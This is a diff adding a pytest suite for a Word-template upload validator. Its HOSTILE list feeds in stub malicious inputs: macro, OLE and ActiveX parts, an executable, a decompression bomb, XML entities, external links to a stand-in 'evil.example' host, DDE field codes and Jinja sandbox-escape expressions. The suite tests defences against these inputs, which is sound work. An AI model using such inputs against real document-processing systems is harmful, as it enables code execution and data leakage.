@@ -1,0 +1,141 @@
+"""Uploaded templates: what a Word file may hold and what it may ask of the program; the rest is refused by name."""
+
+from __future__ import annotations
+
+import zipfile
+from io import BytesIO
+
+import pytest
+from docx import Document
+
+from engine.directives import template_file
+from engine.directives.default_template import default_template
+from engine.directives.fields import SAMPLE
+from engine.directives.language import Unfit
+from engine.directives.template_file import LARGEST, fill, require_fit
+
+
+def with_text(*lines: str, heading: str = "", title: str = "") -> bytes:
+    """A Word file with these paragraphs, this running head and this title."""
+    document = Document()
+    for line in lines:
+        document.add_paragraph(line)
+    document.sections[0].header.paragraphs[0].text = heading
+    document.core_properties.title = title
+    out = BytesIO()
+    document.save(out)
+    return out.getvalue()
+
+
+def with_part(name: str, content: bytes, *, base: bytes | None = None) -> bytes:
+    """A Word file in which one part is added or replaced."""
+    out = BytesIO()
+    with (
+        zipfile.ZipFile(BytesIO(base or with_text("x"))) as old,
+        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new,
+    ):
+        for item in old.infolist():
+            if item.filename != name:
+                new.writestr(item, old.read(item))
+        new.writestr(name, content)
+    return out.getvalue()
+
+
+def body(xml: str, *, head: str = '<?xml version="1.0" encoding="UTF-8"?>') -> bytes:
+    """A Word file whose body is this XML."""
+    space = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+    document = f"{head}<w:document {space}><w:body><w:p>{xml}</w:p></w:body></w:document>"
+    return with_part("word/document.xml", document.encode("utf-8"))
+
+
+def rels(kind: str, *, mode: str = "External") -> bytes:
+    space = "http://schemas.openxmlformats.org/package/2006/relationships"
+    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+    link = f'<Relationship Id="r1" Type="{office}/{kind}" Target="http://evil.example/x" TargetMode = "{mode}"/>'
+    text = f'<Relationships xmlns="{space}">{link}</Relationships>'
+    return with_part("word/_rels/settings.xml.rels", text.encode())
+
+
+LOOPS = "{% for a in cases %}{% for b in cases %}{% for c in cases %}{{ c.code }}{% endfor %}{% endfor %}{% endfor %}"
+HOSTILE = [
+    (b"", "empty", ""),
+    (b"x" * (LARGEST + 1), "large", ""),
+    (b"%PDF-1.7", "not_word", ""),
+    (b"PK\x03\x04" + b"x" * 60, "not_word", ""),
+    (with_part("word/vbaProject.bin", b"x"), "active", "word/vbaProject.bin"),
+    (with_part("word/embeddings/oleObject1.bin", b"x"), "active", "word/embeddings/oleObject1.bin"),
+    (with_part("word/activeX/activeX1.xml", b"<x/>"), "active", "word/activeX/activeX1.xml"),
+    (with_part("word/run.exe", b"MZ"), "strange", "word/run.exe"),
+    (with_part("word/media/a.png.xml", b"\xff\xfe<\x00x\x00"), "strange", "word/media/a.png.xml"),
+    (with_part("word/bomb.xml", b"0" * (template_file.UNPACKED + 1)), "large", ""),
+    (with_part("docProps/app.xml", b'<!DOCTYPE x [<!ENTITY y "z">]><x>&y;</x>'), "strange", "docProps/app.xml"),
+    (with_part("docProps/app.xml", b'<?xml version="1.0" encoding="utf-7"?><x/>'), "strange", "docProps/app.xml"),
+    (rels("attachedTemplate"), "link", "word/_rels/settings.xml.rels"),
+    (rels("hyperlink", mode="external"), "link", "word/_rels/settings.xml.rels"),
+    (body('<w:r><w:instrText>INCLUDETEXT "c:/x"</w:instrText></w:r>'), "link", 'INCLUDETEXT "c:/x"'),
+    (body("<w:r><w:instrText>DDE</w:instrText></w:r>"), "link", "DDE"),
+    (body('<w:fldSimple w:instr="LINK Excel"/>'), "link", "LINK Excel"),
+    (body("<w:r><w:object/></w:r>"), "active", "word/document.xml"),
+    (body("<w:altChunk/>"), "active", "word/document.xml"),
+    (with_text("{{ phone }}"), "field", "phone"),
+    (with_text("{{ reporter_name }}", "x"), "field", "reporter_name"),
+    (with_text("{% for case in cases %}{{ case.address }}{% endfor %}"), "field", "case.address"),
+    (with_text("{{ subject.__class__ }}"), "field", "subject.__class__"),
+    (with_text("{{ ''.__class__.__mro__ }}"), "field", "….__mro__"),
+    (with_text("{{ cases[0].code }}"), "field", "….code"),
+    (with_text("{{ range(10) }}"), "construct", "Call"),
+    (with_text("{% set x = subject %}"), "construct", "Assign"),
+    (with_text("{% include 'x' %}"), "construct", "Include"),
+    (with_text("{% macro x() %}{% endmacro %}"), "construct", "Macro"),
+    (with_text("{{ subject | attr('upper') }}"), "filter", "attr"),
+    (with_text("{{ 9 ** 99 }}"), "construct", "Pow"),
+    (with_text("{{ 'x' * 999999 }}"), "construct", "Mul"),
+    (with_text(LOOPS), "loop", "cases"),
+    (with_text("{% for x in subject %}{{ x }}{% endfor %}"), "loop", "subject"),
+    (with_text("{% for case in cases %}x"), "syntax", ""),
+    (with_text("{{ subject"), "syntax", ""),
+    (with_text("{{tr " * 1001), "large", "word/document.xml"),
+    (with_text("x", heading="{" + "x" * 400_001), "large", "word/header1.xml"),
+    (with_text("x", heading="{{ phone }}"), "field", "phone"),
+    (with_text("x", title="{{ phone }}"), "field", "phone"),
+]
+
+
+@pytest.mark.parametrize(("content", "reason", "name"), HOSTILE)
+def test_what_is_no_template_is_refused_by_name(content: bytes, reason: str, name: str) -> None:
+    with pytest.raises(Unfit) as refused:
+        require_fit(content)
+    assert refused.value.reason == reason
+    if name:
+        assert refused.value.name == name
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        default_template(),
+        with_text("V/v {{ subject | upper }}", "{% if total == '02' and not signer_name %}x{% else %}y{% endif %}"),
+        with_text(
+            "{%p for case in cases %}", "{{ loop.index }}. {{ case.code }}", "{%p endfor %}", title="V/v {{ subject }}"
+        ),
+        with_text("{{ recipients | join(', ') }}", heading="Số: {{ number }}"),
+    ],
+)
+def test_what_an_office_writes_is_taken(content: bytes) -> None:
+    require_fit(content)
+
+
+def test_values_are_printed_as_text_whatever_they_hold() -> None:
+    evil = {**SAMPLE, "subject": "<w:p>{{ 7 * 7 }} & {% raw %} \x26lt;"}
+    (paragraph,) = Document(BytesIO(fill(with_text("{{ subject }}"), evil))).paragraphs
+    assert paragraph.text == evil["subject"]
+
+
+def test_the_page_is_measured_as_the_decree_says() -> None:
+    document = Document(BytesIO(default_template()))
+    (section,) = document.sections
+    sides = ("page_width", "page_height", "top_margin", "bottom_margin", "left_margin", "right_margin")
+    assert [round(getattr(section, side).mm) for side in sides] == [210, 297, 20, 20, 30, 20]
+    font = document.styles["Normal"].font
+    assert (font.name, font.size.pt) == ("Times New Roman", 14)
+    assert default_template() == default_template()
